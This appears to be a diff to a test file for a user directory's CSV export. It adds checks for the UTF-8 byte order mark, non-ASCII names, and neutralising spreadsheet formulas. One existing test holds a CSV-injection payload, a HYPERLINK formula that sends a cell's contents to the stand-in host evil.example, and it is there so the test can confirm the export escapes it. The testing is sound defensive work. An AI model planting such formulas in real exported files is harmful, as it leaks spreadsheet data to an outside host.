@@ -1,6 +1,7 @@
 /**
  * Export to CSV over real HTTP: each row must say what POST /api/users/search and POST /api/pins/status
- * answer for the same search, given as the page-URL parameters the Users page holds.
+ * answer for the same search, given as the page-URL parameters the Users page holds. The file starts with a
+ * UTF-8 byte order mark, which fetch's text() drops, so the bytes themselves are read where it matters.
  */
 
 import { parseCsv } from "@pindesk/domain/csv/test-support/parse-csv";
@@ -10,7 +11,7 @@ import type { SearchQuery } from "@pindesk/domain/users/search-query";
 import { searchQueryToParams } from "@pindesk/domain/users/search-url";
 import type { SearchResponse } from "@pindesk/domain/users/user";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { insertDirectoryUsers } from "../../core/directory/directory-writer.ts";
+import { insertDirectoryUsers, type NewDirectoryUser } from "../../core/directory/directory-writer.ts";
 import { startTestApp, type TestApp } from "../../test/test-app.ts";
 import { TEST_ENGINES } from "../../test/test-database.ts";
 
@@ -53,6 +54,35 @@ const QUERIES: [string, SearchQuery][] = [
 const text = (value: string | null) => value ?? "";
 const yesNo = (value: boolean) => (value ? "Yes" : "No");
 
+const BOM = [0xef, 0xbb, 0xbf];
+
+/** A user typed into the directory by someone else: only a name, a logon and, perhaps, a line URI. */
+const directoryUser = (
+  displayName: string,
+  logon: string,
+  lineUri: string | null = null,
+): NewDirectoryUser => ({
+  displayName,
+  firstName: null,
+  lastName: null,
+  samAccountName: logon,
+  netbiosDomain: "LITWAREINC",
+  userPrincipalName: `${logon}@litwareinc.com`,
+  sipAddress: `sip:${logon}@litwareinc.com`,
+  lineUri,
+  distinguishedName: `CN=${logon},OU=Sales,DC=litwareinc,DC=com`,
+  department: null,
+  title: null,
+  office: null,
+  company: null,
+  city: null,
+  registrarPoolId: null,
+  enabled: true,
+  enterpriseVoiceEnabled: false,
+  pinPolicyId: null,
+  protected: false,
+});
+
 describe.each(TEST_ENGINES)("Export to CSV on %s", (engine) => {
   let app: TestApp;
   beforeAll(async () => {
@@ -62,6 +92,15 @@ describe.each(TEST_ENGINES)("Export to CSV on %s", (engine) => {
 
   const download = (search: SearchQuery) =>
     app.get<string>(`/api/users/export.csv?${searchQueryToParams(search)}`);
+  /** The file as it arrives, byte order mark and all. */
+  const downloadBytes = async (search: SearchQuery) => {
+    const response = await fetch(`${app.baseUrl}/api/users/export.csv?${searchQueryToParams(search)}`, {
+      headers: { cookie: app.administrator.cookie ?? "", origin: app.baseUrl },
+    });
+    expect(response.status).toBe(200);
+    return new Uint8Array(await response.arrayBuffer());
+  };
+  const asText = (bytes: Uint8Array) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
   const rowsOf = async (search: SearchQuery) => {
     const response = await download(search);
     expect(response.status, response.body).toBe(200);
@@ -104,6 +143,13 @@ describe.each(TEST_ENGINES)("Export to CSV on %s", (engine) => {
     );
     expect(response.headers.get("cache-control")).toBe("no-store");
     expect(response.body.startsWith(`${HEADER.join(",")}\r\n`)).toBe(true);
+  });
+
+  it("starts with one UTF-8 byte order mark, then the header", async () => {
+    const bytes = await downloadBytes(query({}));
+    expect([...bytes.subarray(0, 3)]).toEqual(BOM);
+    expect(asText(bytes.subarray(3)).startsWith(`${HEADER.join(",")}\r\n`)).toBe(true);
+    expect(parseCsv(asText(bytes))[0]).toEqual(HEADER);
   });
 
   it.each(QUERIES)("holds one row per user the search finds, in its order: %s", async (_what, search) => {
@@ -154,6 +200,35 @@ describe.each(TEST_ENGINES)("Export to CSV on %s", (engine) => {
       '"\'=HYPERLINK(""http://evil.example/?""&A1,""Details"")",sip:mallory@litwareinc.com,',
     );
     expect(parseCsv(response.body)[1]?.[0]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"Details")');
+  });
+
+  it("neutralises a formula after a line feed, quotes a semicolon, keeps Zoë and 王秀英 in UTF-8", async () => {
+    await insertDirectoryUsers(app.db, [
+      directoryUser("\n=1+1", "csvcheck-lf", "tel:+14255550199;ext=0199"),
+      directoryUser("x;=1+1", "csvcheck-semicolon"),
+      directoryUser("Zoë Ångström", "csvcheck-zoe"),
+      directoryUser("王秀英", "csvcheck-cjk"),
+    ]);
+    const bytes = await downloadBytes(query({ searchText: "csvcheck" }));
+    const rest = ",,Yes,No,No,,,,0,0,\r\n";
+    expect(asText(bytes)).toBe(
+      `\uFEFF${HEADER.join(",")}\r\n` +
+        `"'\n=1+1",sip:csvcheck-lf@litwareinc.com,"tel:+14255550199;ext=0199"${rest}` +
+        `"x;=1+1",sip:csvcheck-semicolon@litwareinc.com,${rest}` +
+        `Zoë Ångström,sip:csvcheck-zoe@litwareinc.com,${rest}` +
+        `王秀英,sip:csvcheck-cjk@litwareinc.com,${rest}`,
+    );
+    // Encoded once, as UTF-8: ë is C3 AB, 王 is E7 8E 8B.
+    const hex = Buffer.from(bytes).toString("hex");
+    expect(hex).toContain("5a6fc3ab"); // "Zoë"
+    expect(hex).toContain("e78e8b"); // "王"
+    expect(parseCsv(asText(bytes)).map((row) => row[0])).toEqual([
+      "Display name",
+      "'\n=1+1",
+      "x;=1+1",
+      "Zoë Ångström",
+      "王秀英",
+    ]);
   });
 
   it("never holds a PIN hash", async () => {
